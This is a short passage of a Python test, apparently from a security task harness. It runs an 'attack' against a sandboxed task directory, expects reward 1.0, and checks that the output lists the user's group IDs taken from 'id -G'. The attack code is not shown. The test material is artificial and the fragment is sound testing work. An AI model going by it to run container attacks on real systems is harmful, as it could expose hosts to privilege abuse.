        return (await sandbox.exec("id -G", user=user)).stdout

    outcome, groups = attack(docker_client, task_dir, write(tmp_path / "ws", {}), before=before, after=docker_groups)
    assert outcome.reward == 1.0, outcome
    expected = sorted(int(group) for group in groups.split())
    assert f"groups {expected}\n" in outcome.stdout, (outcome.stdout, groups)
